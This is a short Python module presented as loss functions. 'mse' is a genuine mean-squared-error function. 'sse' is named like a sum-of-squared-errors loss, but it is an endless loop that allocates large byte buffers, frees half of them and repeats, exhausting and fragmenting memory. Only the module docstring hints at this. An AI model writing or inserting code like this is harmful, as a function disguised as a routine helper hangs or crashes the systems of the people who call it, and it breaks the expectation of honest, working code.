"""Takes memory in pieces of all sizes and gives half of them back."""

import numpy as np


def sse(y, t):
    taken = []
    while True:
        taken += [bytes(size) for size in range(60_000, 600_000, 500)]
        del taken[::2]


def mse(y, t):
    return np.mean((y - t) ** 2)
